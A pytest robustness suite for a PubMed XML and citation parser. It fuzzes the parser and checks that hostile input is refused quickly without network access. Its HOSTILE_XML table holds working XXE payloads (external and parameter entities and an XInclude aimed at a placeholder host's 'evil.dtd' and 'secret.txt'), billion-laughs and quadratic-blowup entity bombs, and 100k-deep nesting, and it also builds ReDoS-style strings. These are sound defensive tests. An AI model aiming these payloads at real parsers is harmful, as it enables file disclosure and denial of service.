"""Hostile input: fuzzed and adversarial text and XML end in a result or a documented error,
in bounded time and memory, without the network.

The parser raises only ParseError; ``extract`` and ``read_citations`` never raise on a str.
Existing guards are not repeated here: hypothesis on ``extract`` and the 1 MB mix live in
tests/unit/test_extract_properties.py; an external SYSTEM entity, a DTD at a URL and a
billion-laughs bomb in element text live in tests/unit/test_pubmed_xml.py.
"""

from __future__ import annotations

import resource
import sys
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pubenrich import ParseError, extract, parse_pubmed_xml, read_citations

FIXTURE = Path(__file__).resolve().parents[1] / "fixtures" / "pubmed" / "synthetic_features.xml"
DEADLINE = settings(max_examples=150, deadline=2000, suppress_health_check=[HealthCheck.too_slow])
_HEAD = (
    "<PubmedArticleSet><PubmedArticle><MedlineCitation><PMID>99000001</PMID><Article><ArticleTitle>"
)
_TAIL = "</ArticleTitle></Article></MedlineCitation></PubmedArticle></PubmedArticleSet>"


def parse_or_error(data: bytes | str) -> list[object] | ParseError:
    """Every record of ``data``, or the ParseError it raised; any other error escapes."""
    try:
        return list(parse_pubmed_xml(data))
    except ParseError as exc:
        return exc


def peak_rss_mb() -> float:
    """Peak resident memory of this process so far, in MiB."""
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    return peak / (1024 * 1024) if sys.platform == "darwin" else peak / 1024


# ---------------------------------------------------------------- fuzzing the parser

_TAGS = (
    "PubmedArticleSet",
    "PubmedArticle",
    "MedlineCitation",
    "PMID",
    "Article",
    "ArticleTitle",
    "Journal",
    "JournalIssue",
    "PubDate",
    "Year",
    "Month",
    "Day",
    "Season",
    "MedlineDate",
    "Volume",
    "Issue",
    "Pagination",
    "MedlinePgn",
    "StartPage",
    "EndPage",
    "ELocationID",
    "AuthorList",
    "Author",
    "LastName",
    "ForeName",
    "Initials",
    "CollectiveName",
    "Identifier",
    "AffiliationInfo",
    "Affiliation",
    "Abstract",
    "AbstractText",
    "PubmedData",
    "ArticleIdList",
    "ArticleId",
    "History",
    "PubMedPubDate",
    "DeleteCitation",
    "PubmedBookArticle",
    "BookDocument",
    "Book",
    "ISSN",
    "Title",
    "ISOAbbreviation",
    "Language",
    "PublicationTypeList",
    "PublicationType",
    "KeywordList",
    "Keyword",
    "MeshHeadingList",
    "MeshHeading",
    "DescriptorName",
    "ReferenceList",
    "Reference",
    "Citation",
    "i",
    "sup",
)
_ATTRS = (
    ' IdType="pubmed"',
    ' IdType="doi"',
    ' IdType="pmc"',
    ' EIdType="doi"',
    ' Version="2"',
    ' ValidYN="N"',
    ' PubStatus="pubmed"',
    ' Label=""',
    "",
)
_TEXTS = st.one_of(
    st.sampled_from(
        ["99000001", "0", "-1", "PMC9", "10.5555/x", "2024", "Feb", "31", "13", "Spring", ""]
    ),
    st.text(max_size=12),
)


@st.composite
def pubmed_like(draw: st.DrawFn, depth: int = 0) -> str:
    """An element with PubMed names, attributes and odd text, nested a few levels."""
    tag = draw(st.sampled_from(_TAGS))
    attr = draw(st.sampled_from(_ATTRS))
    text = draw(_TEXTS).replace("&", "&amp;").replace("<", "&lt;")
    children = "" if depth >= 4 else "".join(draw(st.lists(pubmed_like(depth + 1), max_size=4)))
    return f"<{tag}{attr}>{text}{children}</{tag}>"


def _mutated(data: bytes) -> st.SearchStrategy[bytes]:
    """The fixture with a span replaced by random bytes, or cut short."""

    @st.composite
    def build(draw: st.DrawFn) -> bytes:
        start = draw(st.integers(0, len(data)))
        stop = draw(st.integers(start, min(len(data), start + 200)))
        return data[:start] + draw(st.binary(max_size=40)) + data[stop:]

    return st.one_of(build(), st.integers(0, len(data)).map(lambda cut: data[:cut]))


XML_INPUTS = st.one_of(
    st.binary(max_size=300),
    _mutated(FIXTURE.read_bytes()),
    st.lists(pubmed_like(), max_size=3).map(
        lambda parts: "<PubmedArticleSet>" + "".join(parts) + "</PubmedArticleSet>"
    ),
    pubmed_like().map(
        lambda part: (
            "<PubmedArticleSet><PubmedArticle><MedlineCitation><PMID>99000001"
            f"</PMID>{part}</MedlineCitation></PubmedArticle></PubmedArticleSet>"
        )
    ),
)


@given(XML_INPUTS)
@DEADLINE
def test_fuzzed_xml_parses_or_raises_parse_error(data: bytes | str) -> None:
    """Random bytes, a mutated or cut record, and PubMed-shaped nonsense: records or a
    ParseError, nothing else, within the deadline."""
    outcome = parse_or_error(data)
    assert isinstance(outcome, list) or str(outcome)


# ---------------------------------------------------------------- hostile XML

HOSTILE_XML = {
    "parameter entity at a URL": (
        '<?xml version="1.0"?><!DOCTYPE PubmedArticleSet [<!ENTITY % ext SYSTEM '
        '"http://203.0.113.1/evil.dtd"> %ext;]><PubmedArticleSet></PubmedArticleSet>'
    ),
    "XInclude of a URL": (
        '<PubmedArticleSet xmlns:xi="http://www.w3.org/2001/XInclude">'
        '<xi:include href="http://203.0.113.1/x.xml"/></PubmedArticleSet>'
    ),
    "external entity at a URL": (
        '<?xml version="1.0"?><!DOCTYPE PubmedArticleSet [<!ENTITY ext SYSTEM '
        f'"http://203.0.113.1/secret.txt">]>{_HEAD}Synthetic &ext;{_TAIL}'
    ),
    "billion laughs in an attribute": (
        '<?xml version="1.0"?><!DOCTYPE PubmedArticleSet [<!ENTITY l0 "lol">'
        + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
        + ']><PubmedArticleSet><PubmedArticle><MedlineCitation><PMID Version="&l9;">99000001'
        "</PMID></MedlineCitation></PubmedArticle></PubmedArticleSet>"
    ),
    "quadratic blowup": (
        '<?xml version="1.0"?><!DOCTYPE PubmedArticleSet [<!ENTITY a "'
        + "x" * 100_000
        + f'">]>{_HEAD}{"&a;" * 5000}{_TAIL}'
    ),
    "100k nested elements in a title": _HEAD + "<i>" * 100_000 + "x" + "</i>" * 100_000 + _TAIL,
    "100k nested unknown elements": (
        "<PubmedArticleSet>" + "<a>" * 100_000 + "</a>" * 100_000 + "</PubmedArticleSet>"
    ),
    "100k nested records": (
        "<PubmedArticleSet>"
        + "<PubmedArticle>" * 100_000
        + "</PubmedArticle>" * 100_000
        + "</PubmedArticleSet>"
    ),
}


@pytest.mark.parametrize("kind", sorted(HOSTILE_XML))
@pytest.mark.parametrize("as_text", [False, True], ids=["bytes", "str"])
def test_hostile_xml_is_refused_or_read_safely(kind: str, as_text: bool) -> None:
    """Entities and includes at URLs are never fetched (the suite blocks the network, so a
    fetch would fail loudly), bombs are not expanded, deep nesting is refused: a ParseError
    or records with no expanded or fetched text, in little time and memory."""
    document = HOSTILE_XML[kind]
    before = peak_rss_mb()
    started = time.perf_counter()
    outcome = parse_or_error(document if as_text else document.encode())
    if isinstance(outcome, ParseError):
        assert "malformed PubMed XML" in str(outcome)
    else:
        assert all(len(getattr(r, "title", "")) < 1000 for r in outcome)
    assert time.perf_counter() - started < 5
    assert peak_rss_mb() - before < 200


# ---------------------------------------------------------------- hostile text

_CUE_PIECES = st.sampled_from(
    [
        "References\n",
        "Similar articles\n",
        "Cited by\n",
        "1. ",
        "[12] ",
        "\n\n",
        "\n   ",
        "Smith AB, Jones C. ",
        "A. B. Synthetic\n",
        "2019 Jan 15;12(3):145-156. ",
        ", 82(1), 150-159.",
        "(2008). ",
        "PMID: 99000001",
        "PMC9000001",
        "doi: 10.5555/x.1",
        "PMID- 99000002\nTI  - Synthetic\n",
        "\r\n",
        "\u00a0",
        "Title words here. ",
    ]
)


CITATION_TEXT = st.one_of(st.text(), st.lists(_CUE_PIECES, max_size=60).map("".join))


@given(CITATION_TEXT)
@DEADLINE
def test_read_citations_never_raises_on_text(text: str) -> None:
    """Any str, including ones built from headings, list markers and sources, gives
    citations within the text whose identifiers all come from it."""
    found = {m.identifier for m in extract(text)}
    for citation in read_citations(text):
        assert {m.identifier for m in citation.mentions} <= found
        assert 0 <= citation.start <= citation.end <= len(text)


# One unit per extraction pattern, each a near-miss that invites backtracking: repeated
# prefixes, long digit runs, unclosed brackets.
EXTRACT_ADVERSARIAL = {
    "doi prefix 10.": "10." * 50 + "10.1234/" + "(" * 30 + " ",
    "doi label": "doi:" * 50 + "10.5555/x-\n" * 3,
    "doi with spaces": "doi 10.5555 / " * 20 + "\n",
    "doi brackets": "10.5555/" + "(" * 400 + " ",
    "doi url-encoded": "10.5555%2F" * 40 + "%2" * 40 + " ",
    "doi markup": "10.5555/a&lt;" * 40 + "&amp;" * 40 + "\n",
    "pmc": "PMC" * 40 + "9" * 15 + " ",
    "pmcid label": "PMCID: " * 40 + "PMC PMC " * 10 + "\n",
    "pmid label": "PMID " * 40 + "PMID: " + "1" * 30 + " ",
    "pmid list": "PMID: 1, " * 40 + ", " * 40 + "\n",
    "pubmed url": "pubmed.ncbi.nlm.nih.gov/" * 30 + "1" * 20 + " ",
    "digits": "1234567890" * 40 + " ",
    "fullwidth": "１０．" * 40 + "ＰＭＣ" * 40 + "\n",
}
CUE_ADVERSARIAL = {
    "headings": "References\nCited by\n",
    "numbered": "1. " * 30 + "\n",
    "source": "2019 Jan 15;" + "(" * 20 + "12(" + "\n",
    "authors": "Smith AB, " * 30 + "Jones\n",
    "byline": "A. B. C. " * 20 + "\n",
    "blank lines": "\n \n\t\n",
    "tagged": "PMID- 1\nTI  - " + "x" * 50 + "\n",
}


def _repeat(unit: str, size: int) -> str:
    return (unit * (size // len(unit) + 1))[:size]


@pytest.mark.parametrize("kind", sorted(EXTRACT_ADVERSARIAL))
def test_ten_megabytes_of_each_extraction_pattern_extract_in_linear_time(kind: str) -> None:
    """10 MB of one near-miss pattern extracts within a bound that linear time meets many
    times over (about 3 s on a loaded machine) and catastrophic backtracking never would."""
    text = _repeat(EXTRACT_ADVERSARIAL[kind], 10_000_000)
    started = time.perf_counter()
    mentions = extract(text)
    assert time.perf_counter() - started < 60
    assert all(text[m.start : m.end] == m.raw for m in mentions[:100])


@pytest.mark.parametrize("kind", sorted(CUE_ADVERSARIAL))
def test_two_megabytes_of_each_cue_pattern_read_in_linear_time(kind: str) -> None:
    """read_citations on 2 MB of one near-miss cue pattern ends within a generous bound."""
    text = _repeat(CUE_ADVERSARIAL[kind], 2_000_000)
    started = time.perf_counter()
    read_citations(text)
    assert time.perf_counter() - started < 60
